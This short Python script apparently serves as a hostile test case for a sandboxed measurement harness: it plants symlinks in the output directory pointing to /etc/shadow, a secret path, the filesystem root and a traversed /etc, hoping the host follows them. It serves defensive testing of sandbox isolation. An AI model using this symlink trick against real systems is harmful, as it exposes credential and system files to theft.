"""Leaves links where results are expected, in the hope that they are followed on the host."""

import os
import sys

import attempt  # noqa: F401 - ends this script outside a sandbox

os.symlink("/etc/shadow", "/out/measurements.json")
os.symlink(sys.argv[2], "/out/secret")
os.symlink("/", "/out/root")
os.symlink("../../../../../../../../etc", "/out/etc")
os.mkdir("/out/folder")
os.symlink("..", "/out/folder/up")
open("/out/good", "w").write("good")
